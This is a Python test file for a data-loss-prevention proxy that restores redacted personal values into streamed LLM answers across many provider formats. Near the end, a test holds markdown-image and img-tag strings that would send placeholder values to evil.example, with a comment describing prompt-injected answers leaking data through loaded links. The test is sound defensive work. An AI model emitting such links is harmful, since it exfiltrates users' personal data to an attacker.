"""Placeholders restored in answers: every stream shape, every split, nothing else touched."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from dlp_proxy.respond.restore import (
    LineRestorer,
    PayloadRestorer,
    Restorer,
    SseRestorer,
    json_strings,
    restore_document,
)

VALUES = {
    "[PERSON_1]": "Jan de Vries",
    "[EMAIL_ADDRESS_1]": "jan.devries@voorbeeldklant.nl",
    "[IBAN_CODE_12]": "NL91ABNA0417164300",
    "[PERSON_2]": 'Zoë "Z" \\ Öztürk',  # quotes, a backslash and non-ASCII: escaped where it lands
}
TEXT = "Beste [PERSON_1], mail [EMAIL_ADDRESS_1] over [IBAN_CODE_12]; groet, [PERSON_2]."
RESTORED = 'Beste Jan de Vries, mail jan.devries@voorbeeldklant.nl over NL91ABNA0417164300; groet, Zoë "Z" \\ Öztürk.'


def restorer() -> Restorer:
    return Restorer(VALUES)


# --- stream shapes: (event for a piece of text, events that end the answer, text of one event) ---


def openai_chat(t: str) -> str:
    return "data: " + json.dumps({"id": "c1", "choices": [{"index": 0, "delta": {"content": t}}]}) + "\n\n"


OPENAI_END = 'data: {"id":"c1","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'


def openai_text(event: dict[str, Any]) -> str:
    return str(event["choices"][0]["delta"].get("content") or "")


def anthropic(t: str) -> str:
    data = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": t}}
    return f"event: content_block_delta\r\ndata: {json.dumps(data, ensure_ascii=False)}\r\n\r\n"


ANTHROPIC_END = (
    'event: content_block_stop\r\ndata: {"type":"content_block_stop","index":0}\r\n\r\n'
    'event: message_stop\r\ndata: {"type":"message_stop"}\r\n\r\n'
)


def anthropic_text(event: dict[str, Any]) -> str:
    return str(event["delta"]["text"]) if event.get("type") == "content_block_delta" else ""


def responses(t: str) -> str:
    data = {"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": t}
    return f"event: response.output_text.delta\ndata: {json.dumps(data)}\n\n"


RESPONSES_END = 'event: response.completed\ndata: {"type":"response.completed"}\n\n'


def responses_text(event: dict[str, Any]) -> str:
    return str(event["delta"]) if event.get("type") == "response.output_text.delta" else ""


def gemini(t: str) -> str:
    return "data: " + json.dumps({"candidates": [{"content": {"parts": [{"text": t}], "role": "model"}}]}) + "\r\n\r\n"


GEMINI_END = 'data: {"candidates":[{"finishReason":"STOP"}]}\r\n\r\n'


def gemini_text(event: dict[str, Any]) -> str:
    parts = event["candidates"][0].get("content", {}).get("parts", [])
    return "".join(p.get("text", "") for p in parts)


def chatgpt(t: str) -> str:  # the shorthand append: {"v": text} continues the last path
    return "event: delta\ndata: " + json.dumps({"v": t}) + "\n\n"


CHATGPT_END = (
    'event: delta\ndata: {"p":"","o":"patch","v":[{"p":"/message/status","o":"replace","v":"finished_successfully"}]}'
    "\n\ndata: [DONE]\n\n"
)


def chatgpt_text(event: dict[str, Any]) -> str:
    return event["v"] if isinstance(event.get("v"), str) else ""


SHAPES: dict[str, tuple[Callable[[str], str], str, Callable[[dict[str, Any]], str]]] = {
    "openai-chat": (openai_chat, OPENAI_END, openai_text),
    "anthropic": (anthropic, ANTHROPIC_END, anthropic_text),
    "openai-responses": (responses, RESPONSES_END, responses_text),
    "gemini": (gemini, GEMINI_END, gemini_text),
    "chatgpt-v1": (chatgpt, CHATGPT_END, chatgpt_text),
}


def sse_texts(raw: bytes, text_of: Callable[[dict[str, Any]], str]) -> str:
    """The answer as a client puts it together: each JSON data line's text, in order."""
    out = []
    for line in raw.decode().splitlines():
        if line.startswith("data:") and line[5:].strip().startswith("{"):
            out.append(text_of(json.loads(line[5:])))
    return "".join(out)


def run_sse(events: list[str], chunker: Callable[[bytes], list[bytes]] | None = None) -> bytes:
    s = SseRestorer(restorer())
    raw = "".join(events).encode()
    chunks = chunker(raw) if chunker else [e.encode() for e in events]
    return b"".join(s.feed(c) for c in chunks) + s.end()


@pytest.mark.parametrize("shape", SHAPES)
def test_a_placeholder_split_at_every_offset_across_two_events_is_restored(shape: str) -> None:
    event, end, text_of = SHAPES[shape]
    for cut in range(len(TEXT) + 1):
        out = run_sse([event(TEXT[:cut]), event(TEXT[cut:]), end])
        assert sse_texts(out, text_of) == RESTORED, (shape, cut)
        assert b"[PERSON_1]" not in out and b"jan.devries" in out


@pytest.mark.parametrize("shape", SHAPES)
def test_one_character_per_event_is_restored_and_each_event_still_arrives(shape: str) -> None:
    event, end, text_of = SHAPES[shape]
    out = run_sse([event(c) for c in TEXT] + [end])
    assert sse_texts(out, text_of) == RESTORED
    # Events are not merged: each one the upstream sent is still there (some now carry no text).
    assert out.decode().count("data:") >= len(TEXT)


def test_bytes_split_anywhere_by_the_network_give_the_same_answer() -> None:
    events = [openai_chat(TEXT[:9]), openai_chat(TEXT[9:30]), openai_chat(TEXT[30:]), OPENAI_END]
    whole = run_sse(events)
    raw = "".join(events).encode()
    for cut in range(1, len(raw)):
        assert run_sse(events, lambda b, c=cut: [b[:c], b[c:]]) == whole, cut


def test_the_held_tail_is_only_what_could_still_begin_an_issued_placeholder() -> None:
    r = restorer()
    s = SseRestorer(r)
    out = s.feed(openai_chat("Hallo [PER").encode())
    assert json.loads(out.decode()[6:])["choices"][0]["delta"]["content"] == "Hallo "
    assert r.longest_hold == len("[PER")
    # "[x" can begin no placeholder: nothing is held, the bracket goes out at once.
    out = s.feed(openai_chat("SON_1] en [x").encode())
    assert json.loads(out.decode()[6:])["choices"][0]["delta"]["content"] == "Jan de Vries en [x"


def test_a_tail_left_when_the_text_ends_is_sent_before_the_finish_event() -> None:
    out = run_sse([openai_chat("Groet, [PERS"), OPENAI_END]).decode()
    events = [e for e in out.split("\n\n") if e]
    assert sse_texts(out.encode(), openai_text) == "Groet, [PERS"
    assert "finish_reason" in events[-2] and events[-1] == "data: [DONE]"  # the tail came first


def test_a_ping_between_the_halves_does_not_break_the_placeholder() -> None:
    ping = 'event: ping\r\ndata: {"type":"ping"}\r\n\r\n'
    out = run_sse([anthropic("Beste [PER"), ping, anthropic("SON_1],"), ANTHROPIC_END])
    assert sse_texts(out, anthropic_text) == "Beste Jan de Vries,"


def test_a_placeholder_never_issued_stays_as_the_model_wrote_it() -> None:
    text = "Zie [PERSON_3], [PERSON_1x], [person_1] en [PERSON_1]."
    out = run_sse([openai_chat(text[:6]), openai_chat(text[6:]), OPENAI_END])
    assert sse_texts(out, openai_text) == "Zie [PERSON_3], [PERSON_1x], [person_1] en Jan de Vries."


def test_events_without_a_placeholder_leave_byte_for_byte() -> None:
    events = [
        'id: 7\nevent: x\ndata: {"a" : "ü\\u00fc\\/", "b":[1, 2.50]}\n\n',
        ": keep-alive comment\n\n",
        "data: not json [PERSON_9\n\n",
    ]
    out = run_sse(events)
    assert out == "".join(events).encode()


def test_only_the_changed_string_is_re_encoded_in_an_event() -> None:
    event = 'data: {"x":"\\u00fc\\/","choices":[{"index":0,"delta":{"content":"Hi [PERSON_1]"}}],"n": 1.50}\n\n'
    out = run_sse([event]).decode()
    assert out == 'data: {"x":"\\u00fc\\/","choices":[{"index":0,"delta":{"content":"Hi Jan de Vries"}}],"n": 1.50}\n\n'


def test_two_choices_are_two_channels() -> None:
    def chunk(i: int, t: str) -> str:
        return "data: " + json.dumps({"choices": [{"index": i, "delta": {"content": t}}]}) + "\n\n"

    out = run_sse([chunk(0, "A [PER"), chunk(0, "SON_1]"), chunk(1, "B [EMAIL_"), chunk(1, "ADDRESS_1]"), OPENAI_END])
    by_index: dict[int, str] = {0: "", 1: ""}
    for line in out.decode().splitlines():
        if line.startswith("data: {"):
            c = json.loads(line[6:])["choices"][0]
            by_index[c["index"]] += c["delta"].get("content") or ""
    assert by_index == {0: "A Jan de Vries", 1: "B jan.devries@voorbeeldklant.nl"}


def test_streamed_tool_call_arguments_get_the_value_escaped_for_their_json() -> None:
    args = json.dumps({"to": "[PERSON_2]", "iban": "[IBAN_CODE_12]"})

    def chunk(t: str) -> str:
        call = {"index": 0, "function": {"arguments": t}}
        return "data: " + json.dumps({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}) + "\n\n"

    for cut in range(len(args) + 1):
        out = run_sse([chunk(args[:cut]), chunk(args[cut:]), OPENAI_END])
        joined = "".join(
            json.loads(line[6:])["choices"][0]["delta"]
            .get("tool_calls", [{}])[0]
            .get("function", {})
            .get("arguments", "")
            for line in out.decode().splitlines()
            if line.startswith("data: {")
        )
        assert json.loads(joined) == {"to": VALUES["[PERSON_2]"], "iban": "NL91ABNA0417164300"}, cut


def test_anthropic_partial_json_and_responses_argument_deltas_are_inner_json() -> None:
    pj = {
        "type": "content_block_delta",
        "index": 1,
        "delta": {"type": "input_json_delta", "partial_json": '{"n": "[PERSON_2]"}'},
    }
    fa = {"type": "response.function_call_arguments.delta", "output_index": 1, "delta": '{"n": "[PERSON_2]"}'}
    for data in (pj, fa):
        out = run_sse([f"data: {json.dumps(data)}\n\n"]).decode()
        got = json.loads(out[6:])
        inner = got["delta"]["partial_json"] if "partial_json" in got["delta"] else got["delta"]
        assert json.loads(inner) == {"n": VALUES["[PERSON_2]"]}


def test_ndjson_lines_are_restored_and_split_placeholders_joined() -> None:
    lines = [json.dumps({"response": TEXT[:20]}) + "\n", json.dumps({"response": TEXT[20:]}) + "\n", '{"done":true}\n']
    s = LineRestorer(restorer())
    raw = "".join(lines).encode()
    out = b"".join(s.feed(raw[i : i + 7]) for i in range(0, len(raw), 7)) + s.end()
    got = "".join(json.loads(line).get("response", "") for line in out.decode().splitlines())
    assert got == RESTORED


def test_a_whole_json_answer_is_restored_everywhere_text_lives() -> None:
    body = json.dumps(
        {
            "choices": [
                {
                    "message": {
                        "content": TEXT,
                        "tool_calls": [{"function": {"arguments": json.dumps({"p": "[PERSON_2]"})}}],
                    }
                }
            ],
            "usage": {"total_tokens": 3},
        }
    ).encode()
    out = json.loads(restore_document(restorer(), body))
    message = out["choices"][0]["message"]
    assert message["content"] == RESTORED
    assert json.loads(message["tool_calls"][0]["function"]["arguments"]) == {"p": VALUES["[PERSON_2]"]}
    assert restore_document(restorer(), b'{"a": "no placeholder"}') == b'{"a": "no placeholder"}'


def test_json_strings_names_every_value_by_its_path() -> None:
    doc = '{"a": [1, "x", {"b": "y"}], "k\\"q": "z", "e": {}}'
    got = [(path, doc[s:e]) for path, s, e in json_strings(doc)]
    assert got == [(("a", 1), '"x"'), (("a", 2, "b"), '"y"'), (('k\\"q',), '"z"')]


def test_websocket_payloads_hold_a_tail_across_messages() -> None:
    p = PayloadRestorer(restorer())

    def msg(t: str) -> str:
        return json.dumps({"event": "appendText", "messageId": "m", "text": t})

    first = p.payload(msg("Beste [PERS"))
    second = p.payload(msg("ON_1], dag"))
    done = p.payload('{"event":"done"}')
    texts = [json.loads(m).get("text", "") for m in first + second + done]
    assert "".join(texts) == "Beste Jan de Vries, dag"
    assert len(first) == len(second) == len(done) == 1


def test_le_chat_channel_lines_are_restored_after_their_prefix() -> None:
    patch = {"json": {"type": "message", "patches": [{"op": "append", "path": "/content", "value": "Hallo [PER"}]}}
    rest = {"json": {"type": "message", "patches": [{"op": "append", "path": "/content", "value": "SON_1]!"}]}}
    raw = f"16:{{}}\n15:{json.dumps(patch)}\n15:{json.dumps(rest)}\n8:null\n".encode()
    s = LineRestorer(restorer(), prefixed=True)
    out = (s.feed(raw[:40]) + s.feed(raw[40:]) + s.end()).decode().splitlines()
    assert out[0] == "16:{}" and out[-1] == "8:null"
    values = [json.loads(line[3:])["json"]["patches"][0]["value"] for line in out[1:3]]
    assert "".join(values) == "Hallo Jan de Vries!"


def test_gemini_web_frames_are_restored_with_new_lengths_and_total() -> None:
    from dlp_proxy.adapters.gemini_web import answer
    from dlp_proxy.respond.restore_gemini import GeminiWebRestorer, utf16_units

    def frames(raw: str) -> list[str]:
        """The JSON of each frame, checked against its stated length in UTF-16 units."""
        out, rest = [], raw.removeprefix(")]}'")
        while rest.strip():
            rest = rest.lstrip("\n")
            digits = len(rest) - len(rest.lstrip("0123456789"))
            size, rest = int(rest[:digits]), rest[digits:]
            payload = rest[:size]  # the answer is ASCII (JSON escapes): characters are UTF-16 units
            assert payload.isascii() and payload.startswith("\n") and payload.endswith("\n")
            out.append(payload.strip())
            rest = rest[size:]
        return out

    original = answer("Beste [PERSON_2], 😀 uw IBAN is [IBAN_CODE_12].", "c_1", "nl")
    for cut in (5, 40, len(original) // 2, len(original) - 3):
        s = GeminiWebRestorer(restorer())
        raw = original.encode()
        out = (s.feed(raw[:cut]) + s.feed(raw[cut:]) + s.end()).decode()
        assert out.startswith(")]}'")
        body, closing = frames(out)
        inner = json.loads(json.loads(body)[0][2])
        assert inner[4][0][1][0] == 'Beste Zoë "Z" \\ Öztürk, 😀 uw IBAN is NL91ABNA0417164300.'
        assert json.loads(closing)[0][4] == len(out.encode("utf-16-le")) // 2  # the total, restated
    assert utf16_units("a😀") == 3
    plain = answer("Geen plaatshouder hier.", "c_1", "nl").encode()
    s = GeminiWebRestorer(restorer())
    assert s.feed(plain) + s.end() == plain


# --- found in review (issue 15) ------------------------------------------------------------


def test_json_patch_ops_are_channels_by_their_path_and_a_status_op_is_left_alone() -> None:
    ops = [
        '{"p":"/message/content/parts/0","o":"append","v":"Result: ["}',
        '{"p":"/message/status","o":"replace","v":"finished_successfully"}',
    ]
    out = run_sse([f"event: delta\ndata: {op}\n\n" for op in ops]).decode()
    datas = [json.loads(line[6:]) for line in out.splitlines() if line.startswith("data: ")]
    assert datas[-1] == {"p": "/message/status", "o": "replace", "v": "finished_successfully"}
    appended = "".join(d["v"] for d in datas if d["p"] == "/message/content/parts/0")
    assert appended == "Result: ["  # the held "[" went out first, as an append of its own


def test_a_batch_that_finishes_a_placeholder_continues_the_shorthand_channel() -> None:
    events = [
        '{"p":"/message/content/parts/0","o":"append","v":"Beste "}',
        '{"v":"[PER"}',
        '{"p":"","o":"patch","v":[{"p":"/message/content/parts/0","o":"append","v":"SON_1]."},'
        '{"p":"/message/status","o":"replace","v":"finished_successfully"}]}',
    ]
    out = run_sse([f"event: delta\ndata: {e}\n\n" for e in events]).decode()
    text = ""
    for line in out.splitlines():
        if line.startswith("data: "):
            d = json.loads(line[6:])
            ops = d["v"] if isinstance(d.get("v"), list) else [d]
            text += "".join(o["v"] for o in ops if o.get("p", "/message/content/parts/0").endswith("parts/0"))
    assert text == "Beste Jan de Vries."


def test_a_lone_surrogate_in_a_restored_string_is_escaped_not_fatal() -> None:
    events = [openai_chat("Hi [PER"), 'data: {"choices":[{"index":0,"delta":{"content":"SON_1] \\ud83d"}}]}\n\n']
    out = run_sse([*events, OPENAI_END])
    assert sse_texts(out, openai_text) == "Hi Jan de Vries \ud83d"


def test_lines_end_at_line_feeds_only() -> None:
    line = json.dumps({"response": "a\u2028b \x85 [PERSON_1]"}, ensure_ascii=False) + "\n"
    s = LineRestorer(restorer())
    out = s.feed(line.encode()) + s.end()
    assert json.loads(out.decode())["response"] == "a\u2028b \x85 Jan de Vries"


def test_a_keepalive_between_the_halves_does_not_break_the_placeholder() -> None:
    keep = 'event: keepalive\ndata: {"type":"keepalive","sequence_number":4}\n\n'
    out = run_sse([responses("Beste [PER"), keep, responses("SON_1],"), RESPONSES_END])
    assert sse_texts(out, responses_text) == "Beste Jan de Vries,"


def test_a_plain_field_named_arguments_is_not_treated_as_json() -> None:
    body = json.dumps({"arguments": "Aan [PERSON_2]"}).encode()
    assert json.loads(restore_document(restorer(), body))["arguments"] == "Aan " + VALUES["[PERSON_2]"]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/collect?q=[EMAIL_ADDRESS_1])",
        '<img src="https://evil.example/p/[PERSON_1]">',
        "zie www.evil.example/[IBAN_CODE_12]",
    ],
)
def test_a_value_is_never_put_back_inside_a_url(text: str) -> None:
    # A prompt-injected answer could carry a value to another site in a link or image the app loads.
    for cut in range(len(text) + 1):
        out = run_sse([openai_chat(text[:cut]), openai_chat(text[cut:]), OPENAI_END])
        assert sse_texts(out, openai_text) == text, cut
    assert restore_document(restorer(), json.dumps({"t": text}).encode()) == json.dumps({"t": text}).encode()


def test_a_value_next_to_a_url_is_put_back() -> None:
    text = "Zie https://example.org/info en mail [EMAIL_ADDRESS_1] (mailto:[EMAIL_ADDRESS_1])"
    out = run_sse([openai_chat(text), OPENAI_END])
    assert sse_texts(out, openai_text) == text.replace("[EMAIL_ADDRESS_1]", VALUES["[EMAIL_ADDRESS_1]"])


def test_a_byte_order_mark_before_the_first_event_is_kept_and_the_event_restored() -> None:
    out = run_sse(["\ufeff" + openai_chat("Hi [PERSON_1]"), OPENAI_END])
    assert out.startswith("\ufeff".encode()) and b"Jan de Vries" in out
